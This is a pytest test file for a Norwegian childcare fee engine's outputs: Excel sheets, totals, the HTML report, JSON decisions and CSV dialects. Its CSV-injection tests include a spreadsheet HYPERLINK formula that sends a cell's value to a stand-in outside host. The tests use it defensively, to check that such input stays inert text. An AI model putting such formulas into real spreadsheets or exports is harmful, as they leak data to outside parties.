"""The workbook, the report and the JSON, read back and checked against maanedlig.csv."""

import datetime as dt
import json
import shutil
import subprocess

import pandas as pd
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from fee_engine.cli import app
from fee_engine.output.summary import by_institution_month
from fee_engine.steg import STEGKOLONNER

from .helpers import read_out, sheet_frame

runner = CliRunner()


@pytest.fixture(scope="module")
def demo_out(tmp_path_factory):
    from pathlib import Path

    demo = Path(__file__).resolve().parent.parent / "fixtures" / "demo"
    out = tmp_path_factory.mktemp("out")
    res = runner.invoke(
        app,
        [
            "run",
            str(demo / "innskriving.csv"),
            "--source",
            "files",
            "--tax-data",
            str(demo / "skatt"),
            "--period",
            "2024-08..2025-07",
            "--out",
            str(out),
        ],
    )
    assert res.exit_code == 1, res.output
    return out


def test_workbook_sheets_types_formats(demo_out):
    wb = load_workbook(demo_out / "vedtak.xlsx")
    assert wb.sheetnames == ["Forside", "Vedtak", "Månedlig", "Oppsummering", "Avvist og manuell"]
    ws = wb["Månedlig"]
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref.startswith("A1:")
    header = [c.value for c in ws[1]]
    assert "Særskilte behov (fritak)" in header and "saerskilte_behov_fritak" not in header
    belop = ws.cell(row=2, column=header.index("Beløp") + 1)
    month = ws.cell(row=2, column=header.index("Måned") + 1)
    assert isinstance(belop.value, int) and belop.number_format == '#,##0 "kr"'
    assert isinstance(month.value, dt.datetime) and month.number_format == "mmm yyyy"
    assert ws.column_dimensions["A"].width >= 10 and ws["A1"].font.b
    vedtak = wb["Vedtak"]
    vh = [c.value for c in vedtak[1]]
    assert vedtak.freeze_panes == "A2" and vedtak.auto_filter.ref.startswith("A1:")
    forklaring = vedtak.cell(row=2, column=vh.index("Forklaring") + 1)
    assert forklaring.alignment.wrap_text and vedtak.column_dimensions[forklaring.column_letter].width >= 80
    year = vedtak.cell(row=2, column=vh.index("Inntektsår") + 1)
    assert isinstance(year.value, int) and 2015 < year.value < 2030  # a number, not text
    assert vedtak.cell(row=2, column=vh.index("Kommunenr.") + 1).value == "0301"  # a code stays text


def test_workbook_total_rows_follow_the_filter_and_hold_the_sum(demo_out):
    csv = read_out(demo_out / "maanedlig.csv")
    wb = load_workbook(demo_out / "vedtak.xlsx")
    cached = load_workbook(demo_out / "vedtak.xlsx", data_only=True)
    ws, wc = wb["Månedlig"], cached["Månedlig"]
    header = [c.value for c in ws[1]]
    col = header.index("Beløp") + 1
    last = ws.max_row
    assert ws.cell(row=last, column=1).value == "Sum" and ws.cell(row=last - 1, column=1).value is None
    assert ws.cell(row=last, column=col).value.startswith("=SUBTOTAL(109,")  # sums what the filter shows
    assert wc.cell(row=last, column=col).value == csv["belop"].sum()  # and the value is stored with it
    assert ws.auto_filter.ref.endswith(str(last - 2))  # the total row is outside the filter


def test_workbook_monthly_equals_csv_and_summary_adds_up(demo_out):
    wb = load_workbook(demo_out / "vedtak.xlsx")
    csv = read_out(demo_out / "maanedlig.csv")
    xl = sheet_frame(wb["Månedlig"])
    assert len(xl) == len(csv)
    assert xl["belop"].sum() == csv["belop"].sum()
    assert (xl["belop"].to_numpy() == csv["belop"].to_numpy()).all()
    summary = sheet_frame(wb["Oppsummering"])
    assert summary["belop"].sum() == csv["belop"].sum()
    assert summary["barn"].sum() == len(csv)
    lhs = (
        summary["ordinaer_pris"]
        - summary["inntektsreduksjon"]
        - summary["saerskilte_behov_fritak"]
        - summary["soeskenmoderasjon"]
        - summary["gratis_timer"]
    )
    assert (lhs == summary["belop"]).all()
    # the same totals computed straight from the CSV
    direct = by_institution_month(csv)
    assert direct["belop"].sum() == summary["belop"].sum()


def test_workbook_problems_sheet_lists_rejected_and_manual(demo_out):
    wb = load_workbook(demo_out / "vedtak.xlsx")
    p = sheet_frame(wb["Avvist og manuell"])
    assert (p["type"] == "avvist rad").sum() == 3
    assert set(p.loc[p["type"] == "manuell", "verdi"]) == {"B09", "B10", "B12"}
    front = {r[0]: r[1] for r in wb["Forside"].iter_rows(values_only=True) if r and r[0]}
    monthly = read_out(demo_out / "maanedlig.csv")
    assert front["Å fakturere i perioden"] == monthly["belop"].sum()
    assert front["Barn med vedtak"] == 15 and front["Til manuell behandling"] == 3
    assert front["Regelsett (versjon)"] and front["Rader avvist"] == 3


def test_json_steps_end_at_the_amount(demo_out):
    doc = json.loads((demo_out / "vedtak.json").read_text(encoding="utf-8"))
    assert doc["kjoering"]["regelsett"]
    b01 = next(d for d in doc["vedtak"] if d["barn_id"] == "B01" and d["fra_maaned"] == "2024-08")
    assert [s["regel"] for s in b01["steg"]] == ["ordinaer_pris", "inntektsgrense", "gratis_kjernetid"]
    assert [s["etter"] for s in b01["steg"]] == [2000, 1636, 838]
    assert [s["for"] for s in b01["steg"]] == [None, 2000, 1636]
    assert "§ 3b" in b01["steg"][1]["hjemmel"]
    # the parameter values each step used: 6 % of 300 000 over 11 months = 1 636.36 → 1 636 per month
    assert b01["steg"][1]["verdier"] == {
        "husholdningsinntekt": 300000,
        "andel_prosent": 6,
        "fakturerte_maaneder": 11,
        "tak_per_maaned": 1636,
    }
    assert b01["steg"][2]["verdier"]["timer_i_plassen"] == 41
    for d in doc["vedtak"]:
        if d["steg"][0]["regel"] != "ikke_fakturert":
            assert d["steg"][-1]["etter"] == d["belop"], d["barn_id"]
            for a, b in zip(d["steg"], d["steg"][1:]):
                assert b["for"] == a["etter"]  # each step starts where the one before ended


def test_report_is_self_contained(demo_out):
    text = (demo_out / "rapport.html").read_text(encoding="utf-8")
    assert "<svg" in text and "http://" not in text.replace('xmlns="http://www.w3.org/2000/svg"', "")
    assert "https://" not in text and "<script" not in text
    assert "SSG-007" in text and "Regelsett" in text and "Ikke verifisert verdi brukt" not in text


def test_report_says_what_to_do_in_office_language(demo_out):
    text = (demo_out / "rapport.html").read_text(encoding="utf-8")
    todo = text[text.index("<h2>Dette må gjøres</h2>") : text.index("<h2>Reduksjoner</h2>")]
    assert todo.count("<b>Gjør dette:</b>") >= 5
    assert "3 rader i innskrivingsfilen er avvist" in todo
    assert "3 barn i 3 husholdninger venter på saksbehandler" in todo
    assert "nyInntektspostSomIkkeFinnes" in todo and "Artikkel og kontering i fakturagrunnlaget er eksempler" in todo
    assert "kommune.0301.sfo.prisliste (Månedspris i SFO/AKS" in todo  # the value named by its description


def test_report_counts_children_and_households_apart():
    from fee_engine.output.summary import reductions

    monthly = pd.DataFrame(
        {
            "barn_id": ["B3", "B5", "B6", "B6", "B9"],
            "tilbud": ["barnehage"] * 5,
            "husholdning_id": ["H2", "H3", "H3", "H3", "H9"],
            "maaned": ["2024-10"] * 4 + ["2024-11"],
        }
    )
    from fee_engine.steg import BIT

    monthly["flagg"] = [BIT["soesken_2"], BIT["soesken_2"], BIT["soesken_3"], BIT["soesken_3"], 0]
    red = reductions(monthly).set_index("ordning")
    # three children with a sibling discount, in two households (B6 counts once although it has two months)
    assert red.loc["Søskenmoderasjon", "barn"] == 3 and red.loc["Søskenmoderasjon", "husholdninger"] == 2
    assert red.loc["Gratis kjernetid", "barn"] == 0


def test_report_units_in_natural_order_with_a_total_line():
    from fee_engine.output.report import natural_key, per_unit

    assert sorted(["Enhet 10", "Enhet 2", "enhet 1", "Enhet 2b"], key=natural_key) == [
        "enhet 1",
        "Enhet 2",
        "Enhet 2b",
        "Enhet 10",
    ]
    amounts = {
        c: [100, 200, 300, 400]
        for c in (
            "ordinaer_pris",
            "inntektsreduksjon",
            "saerskilte_behov_fritak",
            "soeskenmoderasjon",
            "gratis_timer",
            "belop",
        )
    }
    monthly = pd.DataFrame(
        {
            "kommunenummer": ["0301"] * 4,
            "institusjon": ["Enhet 10", "Enhet 2", "Enhet 2", "Enhet 9"],
            "tilbud": ["barnehage"] * 4,
            "barn_id": ["A", "A", "B", "A"],
            "maaned": ["2024-10"] * 4,
            **amounts,
        }
    )
    units, foot = per_unit(monthly)
    assert units["institusjon"].tolist() == ["Enhet 2", "Enhet 9", "Enhet 10"]
    assert units["barn"].tolist() == [2, 1, 1] and foot["barn"] == 2  # A counts once in the total
    assert foot["belop"] == 1000 and units["belop"].tolist() == [500, 400, 100]


def test_report_charts_leave_room_for_every_label_and_value():
    import re

    from fee_engine.output.report import _bars

    labels = ["Redusert foreldrebetaling (6 %)", "Gratis kjernetid", "x"]
    svg = _bars(labels, [4_166_323, -12, 0], fmt=lambda v: f"{v} kr", title="t")
    texts = re.findall(r'<text x="([0-9.]+)" y="([0-9.]+)" text-anchor="end">([^<]*)</text>', svg)
    label_x = {t: float(x) for x, _, t in texts if t in labels}
    bars = [(float(x), float(w)) for x, w in re.findall(r'<rect x="([0-9.]+)" y="[0-9.]+" width="([0-9.]+)"', svg)]
    # right-aligned labels end left of every bar, with room for the longest label at 7 px a character
    assert min(label_x.values()) >= len(labels[0]) * 7 and all(x >= max(label_x.values()) for x, _ in bars)
    ys = [float(y) for _, y, _ in texts]
    assert len(ys) == 6 and len(set(ys)) == 3  # one label and one value per row, rows apart
    width = float(re.search(r'<svg [^>]*width="([0-9.]+)"', svg).group(1))
    assert all(x + w <= width - len("4166323 kr") * 7 for x, w in bars)  # the value column is free of bars


@pytest.mark.skipif(shutil.which("chromium") is None, reason="Debian's chromium is not installed (.ci/run installs it)")
def test_report_renders_in_headless_chromium(demo_out, tmp_path):
    shot = tmp_path / "rapport.png"
    subprocess.run(
        [
            "chromium",
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            f"--user-data-dir={tmp_path / 'profile'}",
            "--window-size=1200,1800",
            f"--screenshot={shot}",
            (demo_out / "rapport.html").as_uri(),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    data = shot.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n" and len(data) > 50_000  # a page with content, not a blank image


@pytest.mark.parametrize("dialect", ["excel", "maskin"])
@pytest.mark.parametrize(
    "fixture,note",
    [
        ("demo", '"a, ""b"" c"'),  # comma and quotes: quoted by the CSV writer, fast path
        ("demo", '"=HYPERLINK(""http://x"",""y"")"'),  # a formula: neutralised in the Excel dialect, fast path
        ("demo", '"a\nb"'),  # a line break inside a value: quoted, fast path
        ("demo", '"a\rb"'),  # a lone carriage return: quoted (fast path); in «maskin» every text field: pandas
        ("kommune_syntetisk", None),  # partial placements (months as runs of one) and siblings
    ],
)
def test_fast_monthly_csv_is_byte_identical(fixture, note, dialect, tmp_path, monkeypatch):
    from pathlib import Path

    from fee_engine import batch, forklaring
    from fee_engine.output import csv as csv_out

    root = Path(__file__).resolve().parent.parent / "fixtures" / fixture
    enrollment = root / "innskriving.csv"
    if note:
        text = enrollment.read_text(encoding="utf-8").splitlines()
        rows = [text[0] + ";merknad"] + [line + (f";{note}" if i == 1 else ";x") for i, line in enumerate(text[1:], 1)]
        enrollment = tmp_path / "inn.csv"
        enrollment.write_bytes(("\n".join(rows) + "\n").encode("utf-8"))
    comp = batch.compute(
        batch.RunOptions(
            enrollment=enrollment,
            out=tmp_path,
            period=(dt.date(2024, 8, 1), dt.date(2025, 7, 1)),
            source="files",
            tax_data=root / "skatt",
        )
    )
    extra = comp.enrollment.extra_columns
    csv_out.write_csv(forklaring.monthly(comp.runs, extra), tmp_path / "slow.csv", dialect)
    fell_back = []
    real_monthly = csv_out.monthly
    monkeypatch.setattr(csv_out, "monthly", lambda *a: fell_back.append(1) or real_monthly(*a))
    csv_out.write_monthly_from_runs(comp.runs, extra, tmp_path / "fast.csv", dialect)
    assert (tmp_path / "fast.csv").read_bytes() == (tmp_path / "slow.csv").read_bytes()
    assert bool(fell_back) == (note is not None and "\r" in note and dialect == "maskin")
    back = pd.read_csv(
        tmp_path / "fast.csv",
        sep=";" if dialect == "excel" else ",",
        encoding="utf-8-sig" if dialect == "excel" else "utf-8",
        dtype=str,
        keep_default_na=False,
    )
    assert len(back) == len(forklaring.monthly(comp.runs, extra))  # every record read back whole
    if note:
        first = back.loc[back["barn_id"] == "B01", "merknad"].iloc[0]
        value = note[1:-1].replace('""', '"').replace("\\n", "\n").replace("\\r", "\r")
        expected = "'" + value if dialect == "excel" and value.startswith("=") else value
        assert first == expected


def test_csv_dialects_bytes(tmp_path):
    from fee_engine.output.csv import write_csv

    df = pd.DataFrame(
        {
            "tekst": ["=1+1", "+47", "-x", "@SUM(A1)", "\tfane", "vanlig", "a;b", "cr\rinne"],
            "tall": [-5, 1, 2, 3, 4, 5, 6, 7],
        }
    )
    write_csv(df, tmp_path / "e.csv")
    raw = (tmp_path / "e.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbftekst;tall\r\n'=1+1;-5\r\n'+47;1\r\n'-x;2\r\n'@SUM(A1);3\r\n'\tfane;4\r\n")
    assert b'\r\n"a;b";6\r\n"cr\rinne";7\r\n' in raw  # numbers are never prefixed; \r and ; are quoted
    write_csv(df, tmp_path / "m.csv", "maskin")
    raw = (tmp_path / "m.csv").read_bytes()
    assert raw.startswith(b'"tekst","tall"\n"=1+1",-5\n"+47",1\n') and b"\xef\xbb\xbf" not in raw
    assert b'"cr\rinne",7\n' in raw  # a lone carriage return is quoted in the maskin dialect too
    back = pd.read_csv(tmp_path / "m.csv", dtype={"tekst": str})
    assert back["tekst"].tolist() == df["tekst"].tolist()  # raw values: nothing added


def test_formula_in_the_input_stays_text_in_the_workbook_and_csv(tmp_path):
    """«=HYPERLINK(…)» typed into the enrollment file must never become a live formula."""
    from pathlib import Path

    demo = Path(__file__).resolve().parent.parent / "fixtures" / "demo"
    evil = '=HYPERLINK("http://example.invalid/?x="&A1,"Klikk")'
    lines = (demo / "innskriving.csv").read_text(encoding="utf-8").splitlines()[:16]
    rows = [lines[0] + ";merknad"] + [
        line.replace("Solsikken barnehage", "+Solsikken") + ';"' + evil.replace('"', '""') + '"' for line in lines[1:]
    ]
    src = tmp_path / "inn.csv"
    src.write_text("\n".join(rows) + "\n", encoding="utf-8")
    for dialect in ("excel", "maskin"):
        out = tmp_path / dialect
        res = runner.invoke(
            app,
            [
                "run",
                str(src),
                "--source",
                "files",
                "--tax-data",
                str(demo / "skatt"),
                "--period",
                "2024-08..2025-07",
                "--out",
                str(out),
                "--csv-dialect",
                dialect,
            ],
        )
        assert res.exit_code == 0, res.output
        sep, enc = (";", "utf-8-sig") if dialect == "excel" else (",", "utf-8")
        m = pd.read_csv(out / "maanedlig.csv", sep=sep, encoding=enc, dtype=str, keep_default_na=False)
        v = pd.read_csv(out / "vedtak.csv", sep=sep, encoding=enc, dtype=str, keep_default_na=False)
        f = pd.read_csv(out / "fakturagrunnlag.csv", sep=sep, encoding=enc, dtype=str, keep_default_na=False)
        prefix = "'" if dialect == "excel" else ""
        assert set(m["merknad"]) == {prefix + evil} and set(v["merknad"]) == {prefix + evil}
        assert prefix + "+Solsikken" in set(m["institusjon"]) and prefix + "+Solsikken" in set(f["institusjon"])
        assert not m["belop"].str.startswith("'").any()  # numbers are never prefixed
        # both files show the step columns in one order: the price, then the steps as the amount passes through
        assert [c for c in v.columns if c in STEGKOLONNER] == [c for c in m.columns if c in STEGKOLONNER]
        assert [c for c in m.columns if c in STEGKOLONNER] == list(STEGKOLONNER)
    wb = load_workbook(tmp_path / "excel" / "vedtak.xlsx")
    for name in ("Vedtak", "Månedlig"):
        ws = wb[name]
        header = [c.value for c in ws[1]]
        cell = ws.cell(row=2, column=header.index("merknad") + 1)
        assert cell.value == evil and cell.data_type == "s"  # text, not a formula
    import re

    formulas = re.findall(r"<f>([^<]*)</f>", zipfile_text(tmp_path / "excel" / "vedtak.xlsx"))
    assert formulas and all(f.startswith("SUBTOTAL(") for f in formulas)  # only the total lines are formulas


def zipfile_text(path):
    import zipfile

    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_a_table_longer_than_a_sheet_continues_on_the_next(tmp_path, monkeypatch):
    from fee_engine.output import excel

    monkeypatch.setattr(excel, "EXCEL_MAX_ROWS", 10)  # 1 header + 7 rows + blank + total per sheet
    df = pd.DataFrame({"barn_id": [f"B{i}" for i in range(20)], "maaned": ["2024-10"] * 20, "belop": range(20)})
    book = excel.Book(tmp_path / "t.xlsx")
    names = excel.write_table(book, "Månedlig", df, total=excel.sum_totals(df))
    book.close()
    assert names == ["Månedlig", "Månedlig (2)", "Månedlig (3)"]
    wb = load_workbook(tmp_path / "t.xlsx", data_only=True)
    frames = [sheet_frame(wb[n]) for n in names]
    assert [len(f) for f in frames] == [7, 7, 6]
    assert pd.concat(frames)["barn_id"].tolist() == df["barn_id"].tolist()
    for n, f in zip(names, frames):
        last = list(wb[n].iter_rows(values_only=True))[-1]
        assert last[0] == "Sum" and last[2] == f["belop"].sum()  # each sheet totals its own rows
        assert wb[n].max_row <= 10


def test_json_has_every_column_of_vedtak_csv(demo_out):
    """vedtak.json is one object per row of vedtak.csv, with each of its columns (the office's note, the step
    columns and forklaring_kode included) and the same values, then the steps."""
    doc = json.loads((demo_out / "vedtak.json").read_text(encoding="utf-8"))
    csv = read_out(demo_out / "vedtak.csv", dtype=str, keep_default_na=False)
    assert len(doc["vedtak"]) == len(csv)
    for d, (_, row) in zip(doc["vedtak"], csv.iterrows()):
        assert list(d)[: len(csv.columns)] == list(csv.columns) and list(d)[-1] == "steg"
        for c in ("barn_id", "belop", "soeskenmoderasjon", "gratis_timer", "forklaring_kode", "forklaring"):
            assert str(d[c]) == str(row[c]), (c, d[c], row[c])
        assert (d["merknad_saksbehandler"] or "") == row["merknad_saksbehandler"]


def test_json_is_one_decision_a_line_and_strict_json(demo_out, tmp_path, monkeypatch):
    """Each decision is one line of vedtak.json (grep finds a whole decision); missing values are null, never
    the NaN that strict JSON readers refuse, and numpy numbers are plain numbers."""
    import numpy as np

    from fee_engine.output import json as json_out

    lines = (demo_out / "vedtak.json").read_text(encoding="utf-8").splitlines()
    start = lines.index('"vedtak": [')
    body = lines[start + 1 : -1]
    csv = read_out(demo_out / "vedtak.csv", dtype=str, keep_default_na=False)
    assert len(body) == len(csv) and lines[-1] == "]}"
    assert [json.loads(x.rstrip(","))["barn_id"] for x in body] == csv["barn_id"].tolist()

    # a table with the missing values pandas may hold: NaN in text, pd.NA and numpy integers in an object column
    vedtak = pd.DataFrame(
        {
            "barn_id": ["B1", "B2"],
            "belop": np.array([100, 0], dtype=np.int32),
            "inntektsaar": pd.Series(["2023", np.nan], dtype="str"),
            "stadie": pd.Series([np.nan, "oppgjoer"], dtype="str"),
            "husholdningsinntekt": pd.Series([np.int64(623_320), pd.NA], dtype=object),
            "merknad": pd.Series([np.int64(7), None], dtype=object),
        }
    )
    monkeypatch.setattr(json_out, "step_records", lambda periods, rules: [[{"regel": "x"}], []])
    path = json_out.write_json(tmp_path / "v.json", vedtak, pd.DataFrame(), None, {"laget": "nå"})

    def refuse(token):
        raise ValueError(token)

    doc = json.loads(path.read_text(encoding="utf-8"), parse_constant=refuse)
    assert doc["vedtak"] == [
        {"barn_id": "B1", "belop": 100, "inntektsaar": "2023", "stadie": None, "husholdningsinntekt": 623320,
         "merknad": 7, "steg": [{"regel": "x"}]},
        {"barn_id": "B2", "belop": 0, "inntektsaar": None, "stadie": "oppgjoer", "husholdningsinntekt": None,
         "merknad": None, "steg": []},
    ]  # fmt: skip
